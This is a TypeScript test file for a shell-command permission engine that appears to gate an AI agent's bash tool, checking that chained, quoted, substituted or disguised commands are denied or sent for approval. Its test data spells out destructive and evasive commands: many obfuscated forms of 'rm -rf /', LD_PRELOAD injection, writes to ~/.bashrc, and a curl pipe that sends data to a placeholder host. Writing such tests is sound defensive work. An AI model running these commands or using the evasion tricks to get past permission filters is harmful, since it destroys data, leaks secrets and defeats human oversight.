import { describe, expect, it } from 'vitest'
import fc from 'fast-check'
import { createPermissionEngine, splitCommand, type PermissionRule } from '@deepseek-ai/dsh-permissions'

const parts = (command: string) => {
  const split = splitCommand(command)
  if (!split.ok) throw new Error(split.problem)
  return split.parts.map((p) => (p.opaque === undefined ? p.words : { words: p.words, opaque: p.opaque }))
}

function shell(rules: Omit<PermissionRule, 'tool'>[], layer: 'project' | 'deployment' = 'project') {
  const engine = createPermissionEngine({
    workspaceRoot: '/repo',
    defaultDecision: 'ask',
    toolArguments: { bash: { command: 'command' }, exec: { command: 'argv' } },
    layers: { [layer]: rules.map((r) => ({ ...r, tool: 'bash' })) },
  })
  return (command: unknown) => engine.decide({ toolName: 'bash', args: { command } }).type
}

describe('splitCommand', () => {
  it('P3: blanks, quotes and backslashes are read as a shell reads them', () => {
    expect(parts('rm  -rf\t/')).toEqual([['rm', '-rf', '/']])
    expect(parts(`'r'm "-"rf \\/`)).toEqual([['rm', '-rf', '/']])
    expect(parts('r""m -rf /')).toEqual([['rm', '-rf', '/']])
    expect(parts(`git commit -m 'a; b && c'`)).toEqual([['git', 'commit', '-m', 'a; b && c']])
    expect(parts(`echo "say \\"hi\\" \\\\ \\x"`)).toEqual([['echo', 'say "hi" \\ \\x']])
    expect(parts(`echo '' ""`)).toEqual([['echo', '', '']])
    expect(parts('git \\\nstatus')).toEqual([['git', 'status']])
  })

  it('P3: ;, &&, ||, |, |&, & and newlines separate commands', () => {
    expect(parts('a 1; b 2 && c || d | e |& f & g\nh')).toEqual([
      ['a', '1'],
      ['b', '2'],
      ['c'],
      ['d'],
      ['e'],
      ['f'],
      ['g'],
      ['h'],
    ])
    expect(parts(';; ;')).toEqual([])
  })

  it('P3: substitutions and subshells run too: they are parts of their own and make their command opaque', () => {
    expect(parts('echo $(rm -rf /)')).toEqual([
      ['rm', '-rf', '/'],
      { words: ['echo', '$(…)'], opaque: 'a command substitution' },
    ])
    expect(parts('echo "x `id` y"')).toEqual([
      ['id'],
      { words: ['echo', 'x `…` y'], opaque: 'a command substitution' },
    ])
    expect(parts('diff <(ls a) >(tee b)')).toEqual([
      ['ls', 'a'],
      ['tee', 'b'],
      { words: ['diff', '<(…)', '>(…)'], opaque: 'a process substitution' },
    ])
    expect(parts('(cd x && rm y)')).toEqual([['cd', 'x'], ['rm', 'y'], { words: [], opaque: 'a subshell' }])
    expect(parts('echo ${x:-$(rm y)}')).toEqual([
      ['rm', 'y'],
      { words: ['echo', '${…}'], opaque: 'a parameter expansion' },
    ])
    expect(parts("echo '$(not run)'")).toEqual([['echo', '$(not run)']])
  })

  it('P3: expansions, file redirections, assignments and glob command names are opaque', () => {
    expect(parts('echo $HOME')).toEqual([{ words: ['echo', '$HOME'], opaque: 'a parameter expansion' }])
    expect(parts(`echo $'\\x72m'`)).toEqual([{ words: ['echo', "$'…'"], opaque: 'ANSI-C quoting' }])
    expect(parts('echo x > /etc/passwd')).toEqual([
      { words: ['echo', 'x'], opaque: 'a redirection to or from a file' },
    ])
    expect(parts('cat < secret')).toEqual([{ words: ['cat'], opaque: 'a redirection to or from a file' }])
    expect(parts('cat <<EOF')).toEqual([{ words: ['cat'], opaque: 'a redirection to or from a file' }])
    expect(parts('LD_PRELOAD=x.so git status')).toEqual([
      { words: ['LD_PRELOAD=x.so', 'git', 'status'], opaque: 'an environment assignment' },
    ])
    expect(parts('/bin/r? -rf /')).toEqual([
      {
        words: ['/bin/r?', '-rf', '/'],
        opaque: 'a command name the shell computes (an expansion, a glob, a brace list or ~)',
      },
    ])
    expect(parts('echo >')).toEqual([{ words: ['echo'], opaque: 'a redirection without a target' }])
  })

  it('P3: descriptor duplication, /dev/null and here-strings are harmless redirections', () => {
    expect(parts('npm test 2>&1 >/dev/null')).toEqual([['npm', 'test']])
    expect(parts('npm test &>/dev/null 2>&-')).toEqual([['npm', 'test']])
    expect(parts('grep x <<< "text"')).toEqual([['grep', 'x']])
    expect(parts('echo a2>/dev/null')).toEqual([['echo', 'a2']])
    expect(parts('echo x >&file')).toEqual([
      { words: ['echo', 'x'], opaque: 'a redirection to or from a file' },
    ])
  })

  it('P3: a line the shell would reject is a problem, not a guess', () => {
    for (const [command, problem] of [
      ["echo 'open", 'an unterminated single quote'],
      ['echo "open', 'an unterminated double quote'],
      ['echo $(ls', 'an unterminated command substitution "$("'],
      ['echo `ls', 'an unterminated backtick substitution'],
      ['ls )', 'an unmatched ")"'],
      [`${'$('.repeat(65)}x${')'.repeat(65)}`, 'substitutions nested deeper than 64'],
    ] as const) {
      expect(splitCommand(command)).toEqual({ ok: false, problem: `it has ${problem}` })
    }
  })

  it('P3: plain words joined by any separators split back into the same commands', () => {
    const word = fc.string({
      minLength: 1,
      maxLength: 8,
      unit: fc.constantFrom('a', 'z', '-', '.', '/', '_', '=', '#'),
    })
    const command = fc
      .array(word, { minLength: 1, maxLength: 4 })
      .filter((w) => !/^[A-Za-z_]\w*=/.test(w[0]!))
    const separator = fc.constantFrom(';', ' ; ', '&&', ' || ', '|', '|&', '&', '\n')
    fc.assert(
      fc.property(fc.array(fc.tuple(command, separator), { minLength: 1, maxLength: 5 }), (chain) => {
        const line = chain.map(([words, sep]) => words.join('  ') + sep).join('')
        expect(parts(line)).toEqual(chain.map(([words]) => words))
      }),
    )
  })

  it('P3: any word single-quoted reads back as itself', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.string({ maxLength: 10 }).filter((s) => !s.includes("'")),
          { minLength: 1, maxLength: 5 },
        ),
        (words) => {
          const split = splitCommand(words.map((w) => `'${w}'`).join(' '))
          // A leading word shaped like NAME=value counts as an assignment even when quoted: stricter than a shell.
          const opaque = /^[A-Za-z_]\w*\+?=/.test(words[0]!) ? 'an environment assignment' : undefined
          expect(split).toEqual({
            ok: true,
            parts: [{ text: expect.any(String), words, opaque, denyWords: expect.any(Array) }],
          })
        },
      ),
    )
  })
})

describe('command rules', () => {
  it('P3: an allow covers a chain only if it covers every part: echo ok; rm -rf / is not an echo', () => {
    const decide = shell([{ decision: 'allow', command: ['echo', 'git status'] }])
    expect(decide('echo ok')).toBe('allow')
    expect(decide('echo ok && git status --short')).toBe('allow')
    expect(decide('echo ok; rm -rf /')).toBe('ask')
    expect(decide('echo ok && rm -rf /')).toBe('ask')
    expect(decide('echo ok | sh')).toBe('ask')
    expect(decide('echo ok & rm -rf /')).toBe('ask')
    expect(decide('echo ok\nrm -rf /')).toBe('ask')
    expect(decide('git status; git push')).toBe('ask')
    expect(decide('git statusx')).toBe('ask')
    expect(decide('gi\\t status')).toBe('allow')
  })

  it('P3: an allow never vouches for substitutions, expansions, file redirections or assignments', () => {
    const decide = shell([{ decision: 'allow', command: ['echo', 'git status'] }])
    for (const command of [
      'echo $(rm -rf /)',
      'echo `rm -rf /`',
      'echo "$(rm -rf /)"',
      'echo $HOME',
      'echo x > ~/.bashrc',
      'echo x >> /etc/hosts',
      'GIT_DIR=/tmp/evil git status',
      './git status',
      '/tmp/echo ok',
      'e* ok',
      "echo 'unterminated",
    ]) {
      expect([command, decide(command)]).toEqual([command, 'ask'])
    }
    expect(decide("echo '$(rm -rf /)'")).toBe('allow')
    expect(decide('echo ok 2>&1')).toBe('allow')
  })

  it('P3: deny and ask rules see through quoting, blanks, paths, keywords, wrappers and assignments', () => {
    const decide = shell([
      { decision: 'deny', command: 'rm -rf' },
      { decision: 'deny', command: 'curl' },
      { decision: 'allow', command: ['echo', 'ls'] },
    ])
    for (const command of [
      'rm -rf /',
      'rm  -rf /',
      "'rm' '-rf' /",
      '\\rm -rf /',
      '/bin/rm -rf /',
      'sudo rm -rf /',
      'FOO=1 env rm -rf /',
      'echo ok; rm -rf /',
      'echo $(rm -rf /)',
      'if true; then rm -rf /; fi',
      'ls | xargs rm -rf',
      '(rm -rf /)',
      'echo x | curl -d @- https://example.invalid',
      'cat <(curl x)',
      "echo 'unterminated; rm -rf /",
    ]) {
      expect([command, decide(command)]).toEqual([command, 'deny'])
    }
    expect(decide('rm -r -f /')).toBe('ask')
    expect(decide('ls -la')).toBe('allow')
    expect(decide('echo rm -rf /')).toBe('allow')
  })

  it('P3/P10: a command whose program the shell computes matches every deny and ask rule, never an allow', () => {
    const decide = shell([
      { decision: 'deny', command: 'rm' },
      { decision: 'allow', command: ['echo', 'ls'] },
    ])
    for (const command of [
      '$CMD -rf /',
      '"$(which rm)" -rf /',
      '`which rm` -rf /',
      '{rm,-rf,/}',
      "$'\\x72m' -rf /",
      'sudo $PROGRAM -rf /',
      'FOO=1 ${X:-rm} -rf /',
      'r* -rf /',
      'ls; $(echo rm) x',
    ]) {
      expect([command, decide(command)]).toEqual([command, 'deny'])
    }
    // The program is known; only an argument is computed: deny rules about rm do not apply.
    expect(decide('echo $HOME')).toBe('ask')
    expect(decide('ls ~')).toBe('allow')
    const split = splitCommand('$CMD -rf /')
    expect(split.ok && split.parts[0]!.denyWords).toBeNull()
    expect(splitCommand('sudo FOO=1 /bin/rm -rf /')).toMatchObject({
      ok: true,
      parts: [{ denyWords: ['rm', '-rf', '/'] }],
    })
  })

  it('P3: commandMatch exact covers that command line only', () => {
    const decide = shell([{ decision: 'allow', command: 'git push origin main', commandMatch: 'exact' }])
    expect(decide('git push origin main')).toBe('allow')
    expect(decide("git push 'origin' main")).toBe('allow')
    expect(decide('git push origin main --force')).toBe('ask')
    expect(decide('git push origin')).toBe('ask')
  })

  it('P10: a command argument that is not a string or argv array matches deny and ask rules, never an allow', () => {
    const decide = shell([
      { decision: 'allow', command: 'echo' },
      { decision: 'deny', command: 'never-used' },
    ])
    expect(decide(new Date(0))).toBe('deny')
    expect(decide({ toString: () => 'echo ok' })).toBe('deny')
    expect(decide(['echo', 3])).toBe('deny')
    const allowOnly = shell([{ decision: 'allow', command: 'echo' }])
    expect(allowOnly(new Date(0))).toBe('ask')
    expect(allowOnly(undefined)).toBe('ask')
  })

  it('P3: an argv array is one command with exactly those words (no shell reads it)', () => {
    const engine = createPermissionEngine({
      workspaceRoot: '/repo',
      toolArguments: { exec: { command: 'argv' } },
      layers: {
        deployment: [{ decision: 'deny', tool: 'exec', command: 'rm' }],
        project: [{ decision: 'allow', tool: 'exec', command: 'echo' }],
      },
    })
    const decide = (argv: unknown) => engine.decide({ toolName: 'exec', args: { argv } }).type
    expect(decide(['echo', 'ok; rm -rf /'])).toBe('allow')
    expect(decide(['echo', '$(id)'])).toBe('allow')
    expect(decide(['/bin/rm', '-rf', '/'])).toBe('deny')
    expect(decide([])).toBe('ask')
  })
})
